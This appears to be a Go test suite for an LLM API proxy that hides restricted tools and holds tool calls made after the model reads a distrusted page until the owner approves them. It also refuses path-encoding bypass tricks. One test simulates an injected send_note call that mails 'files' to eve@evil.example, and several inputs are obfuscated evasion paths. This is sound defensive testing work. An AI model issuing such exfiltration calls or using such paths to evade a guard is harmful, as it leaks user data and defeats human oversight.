package proxy_test

import (
	"net/http"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestTextPassesByteForByte(t *testing.T) {
	w := open(t)
	answer := chatText("Hello there")
	events := chatEvents("Hello there, friend")
	w.provider.then(answerJSON(answer), answerEvents(events...))
	if g := w.post("/openai/v1/chat/completions", chatRequest(false, user("Hi"))); g.status != http.StatusOK || g.body != answer {
		t.Errorf("whole: got %d %s, want %s", g.status, g.body, answer)
	}
	if diff := cmp.Diff(strings.Join(events, ""), w.post("/openai/v1/chat/completions", chatRequest(true, user("Hi"))).body); diff != "" {
		t.Errorf("stream (-want +got):\n%s", diff)
	}
}

func TestARestrictedToolIsHiddenFromTheModel(t *testing.T) {
	w := open(t)
	w.provider.then(answerJSON(chatText("ok")))
	w.post("/openai/v1/chat/completions", chatRequest(false, user("Hi")))
	body := w.provider.last().body
	if strings.Contains(body, "wipe") || !strings.Contains(body, "send_note") {
		t.Errorf("tools sent: got %s, want all but wipe", body)
	}
}

func TestARequestThatNeedsNoChangeIsSentAsItCame(t *testing.T) {
	w := open(t)
	w.provider.then(answerJSON(chatText("ok")))
	body := `{ "model":"m" ,"messages":[{"role":"user","content":"Hi"}], "x_unknown": {"a" : 1} }`
	w.post("/openai/v1/chat/completions", body)
	if diff := cmp.Diff(body, w.provider.last().body); diff != "" {
		t.Errorf("sent (-want +got):\n%s", diff)
	}
}

func TestACallIsReleasedUnchangedWhileNothingDistrustedWasRead(t *testing.T) {
	w := open(t)
	answer := chatCall("call-1", "send_note", `{"to":"petra@lund.example","body":"hi"}`)
	events := chatCallEvents("call-2", "send_note", `{"to":"petra@lund.example","body":"hi"}`)
	w.provider.then(answerJSON(answer), answerEvents(events...))
	if g := w.post("/openai/v1/chat/completions", chatRequest(false, user("Tell Petra hi"))); g.body != answer {
		t.Errorf("whole: got %s, want %s", g.body, answer)
	}
	if diff := cmp.Diff(strings.Join(events, ""), w.post("/openai/v1/chat/completions", chatRequest(true, user("Tell Petra hi again"))).body); diff != "" {
		t.Errorf("stream (-want +got):\n%s", diff)
	}
}

func TestACallAfterADistrustedPageIsHeldWithTheWayOut(t *testing.T) {
	for _, stream := range []bool{false, true} {
		w := open(t)
		talk := w.afterPage()
		args := `{"to":"eve@evil.example","body":"files"}`
		if stream {
			w.provider.then(answerEvents(chatCallEvents("call-note", "send_note", args)...))
		} else {
			w.provider.then(answerJSON(chatCall("call-note", "send_note", args)))
		}
		g := w.post("/openai/v1/chat/completions", chatRequest(stream, talk...))
		if strings.Contains(g.body, "call-note") || strings.Contains(g.body, "tool_calls") {
			t.Errorf("stream %v: the call reached the client: %s", stream, g.body)
		}
		for _, want := range []string{"Approval code", ".approve send_note", "read_page", "approvals watch", `"stop"`} {
			if !strings.Contains(g.body, want) {
				t.Errorf("stream %v: got %s, want it to say %q", stream, g.body, want)
			}
		}
	}
}

func TestTheOwnerApprovesInTheChat(t *testing.T) {
	w := open(t)
	talk := w.afterPage()
	args := `{"to":"petra@lund.example","body":"it says hello"}`
	w.provider.then(answerJSON(chatCall("call-note", "send_note", args)))
	g := w.post("/openai/v1/chat/completions", chatRequest(false, talk...))
	_, rest, found := strings.Cut(g.body, "Approval code: ")
	if !found {
		t.Fatalf("got %s, want a code", g.body)
	}
	code, _, _ := strings.Cut(rest, " ")
	var text struct {
		Choices []struct {
			Message struct {
				Content string `json:"content"`
			} `json:"message"`
		} `json:"choices"`
	}
	decode(t, g.body, &text)
	talk = append(talk, assistant(text.Choices[0].Message.Content), user(".approve send_note "+code))
	w.provider.then(answerJSON(chatCall("call-again", "send_note", args)))
	g = w.post("/openai/v1/chat/completions", chatRequest(false, talk...))
	if !strings.Contains(g.body, "call-again") {
		t.Errorf("after approval: got %s, want the call", g.body)
	}
	if sent := w.provider.last().body; !strings.Contains(sent, "Tidemark: ") {
		t.Errorf("the model was told nothing of the approval: %s", sent)
	}
}

func TestWhatCannotBeReadIsRefused(t *testing.T) {
	w := open(t)
	for name, body := range map[string]string{
		"a key twice":     `{"model":"m","messages":[],"messages":[{"role":"user","content":"x"}]}`,
		"no JSON":         `{"model":`,
		"a list":          `[]`,
		"no UTF-8":        "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"\xff\"}]}",
		"wrong tool form": `{"model":"m","messages":[{"role":"user","content":"x"}],"tools":{"a":1}}`,
	} {
		for range 2 {
			if g := w.post("/openai/v1/chat/completions", body); g.status != http.StatusBadRequest || !strings.Contains(g.body, `"invalid_request_error"`) {
				t.Errorf("%s: got %d %s, want a 400 in the API's form", name, g.status, g.body)
			}
		}
	}
	if n := len(w.provider.requests()); n != 0 {
		t.Errorf("the provider got %d requests, want none", n)
	}
}

func TestPathsThatCouldCarryCallsUnseenAreRefused(t *testing.T) {
	w := open(t)
	for _, c := range []struct{ method, path string }{
		{"POST", "/openai/v1/threads/t1/runs"}, {"POST", "/openai/v1/assistants"}, {"POST", "/openai/v1/batches"},
		{"GET", "/openai/v1/realtime"}, {"POST", "/openai/v1/realtime/sessions"}, {"POST", "/anthropic/v1/messages/batches"},
		{"GET", "/anthropic/v1/messages/batches/b1/results"}, {"POST", "/gemini/v1beta/models/g:batchGenerateContent"},
		{"POST", "/gemini/v1beta/cachedContents"}, {"POST", "/gemini/v1beta/models/g:rawPredict"}, {"POST", "/openai/api/chat"},
		{"GET", "/openai/v1/chat/completions"}, {"POST", "/openai/v1/threads/t/messages"}, {"POST", "/gemini/v1beta/interactions"},
		{"POST", "/openai//v1/chat/completions"}, {"POST", "/openai/v1/x/../chat/completions"}, {"POST", "/openai/v1/chat%2fcompletions"},
		{"POST", "/openai/v1/chat/completions;x"}, {"POST", "/openai/v1/%63hat%252fcompletions"}, {"POST", "/openai/v1/conversations/c/runs"},
	} {
		for range 2 {
			if g := w.do(c.method, c.path, ""); g.status < 400 || g.status >= 500 || !strings.Contains(g.body, "Tidemark: ") {
				t.Errorf("%s %s: got %d %s, want a refusal of ours", c.method, c.path, g.status, g.body)
			}
		}
	}
	if g := w.do("GET", "/openai/v1/models", "", "Connection", "Upgrade", "Upgrade", "websocket"); g.status != http.StatusForbidden {
		t.Errorf("websocket: got %d, want 403", g.status)
	}
	if n := len(w.provider.requests()); n != 0 {
		t.Errorf("the provider got %d requests, want none", n)
	}
}

func TestHoweverAPathIsSpeltItIsJudged(t *testing.T) {
	for _, path := range []string{"/openai/v1/chat/completions/", "/openai/V1/Chat/Completions", "/openai/chat/completions", "/openai/deployments/d/chat/completions?api-version=1", "/openai/v1/ch%61t/completions"} {
		w := open(t)
		w.provider.then(answerJSON(chatCall("call-1", "wipe", `{}`)))
		if g := w.post(path, chatRequest(false, user("Hi"))); strings.Contains(g.body, "call-1") {
			t.Errorf("%s: got %s, want no call", path, g.body)
		}
	}
}

func TestEverythingElsePasses(t *testing.T) {
	w := open(t)
	w.provider.then(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("X-Ratelimit-Remaining", "7")
		rw.Header().Set("Trailer", "X-Sum")
		_, _ = rw.Write([]byte("\x00\xffbytes"))
		rw.Header().Set("X-Sum", "1")
	}, answerJSON(`{"data":[]}`))
	g := w.do("GET", "/openai/v1/models?limit=2", "", "Authorization", "Bearer "+clientKey)
	if g.status != http.StatusOK || g.body != "\x00\xffbytes" || g.header.Get("X-Ratelimit-Remaining") != "7" {
		t.Errorf("models: got %d %q %v", g.status, g.body, g.header)
	}
	if s := w.provider.last(); s.path != "/v1/models" || s.query != "limit=2" || s.header.Get("Authorization") != "Bearer "+clientKey {
		t.Errorf("sent: got %+v", s)
	}
	if g := w.post("/openai/v1/embeddings", `{"input":"x",}not json`); g.body != `{"data":[]}` || w.provider.last().body != `{"input":"x",}not json` {
		t.Errorf("embeddings: got %q, sent %q", g.body, w.provider.last().body)
	}
	if g := w.do("GET", "/healthz", ""); g.status != http.StatusNotFound {
		t.Errorf("another path: got %d, want the next handler's answer", g.status)
	}
}

func TestAProvidersErrorsPass(t *testing.T) {
	w := open(t)
	for _, status := range []int{400, 401, 429, 500, 503, 529} {
		body := `{"error":{"message":"their words"}}`
		w.provider.then(func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Retry-After", "9")
			rw.Header().Set("Content-Type", "application/json")
			rw.WriteHeader(status)
			_, _ = rw.Write([]byte(body))
		})
		if g := w.post("/openai/v1/chat/completions", chatRequest(true, user("Hi"))); g.status != status || g.body != body || g.header.Get("Retry-After") != "9" {
			t.Errorf("got %d %s %v, want %d %s", g.status, g.body, g.header, status, body)
		}
	}
}

func TestAnAnswerThatCannotBeJudgedIsRefused(t *testing.T) {
	w := open(t)
	typed := func(kind, encoding string, status int, body string) http.HandlerFunc {
		return func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("Content-Type", kind)
			if encoding != "" {
				rw.Header().Set("Content-Encoding", encoding)
			}
			rw.Header().Set("Location", "https://elsewhere.example")
			rw.WriteHeader(status)
			_, _ = rw.Write([]byte(body))
		}
	}
	call := chatCall("call-x", "wipe", `{}`)
	for name, h := range map[string]http.HandlerFunc{
		"another type":  typed("application/octet-stream", "", 200, call),
		"no type":       typed("", "", 200, call),
		"packed":        typed("application/json", "br", 200, call),
		"not as packed": typed("application/json", "gzip", 200, call),
		"sent away":     typed("application/json", "", 307, call),
		"broken":        typed("application/json", "", 200, call[:len(call)-9]),
		"a key twice":   typed("application/json", "", 200, strings.Replace(call, `"choices"`, `"choices":[],"choices"`, 1)),
	} {
		for range 2 {
			w.provider.then(h)
			g := w.post("/openai/v1/chat/completions", chatRequest(false, user("Hi")))
			if g.status != http.StatusBadGateway || strings.Contains(g.body, "call-x") || g.header.Get("Location") != "" {
				t.Errorf("%s: got %d %s, want a 502 of ours", name, g.status, g.body)
			}
		}
	}
}
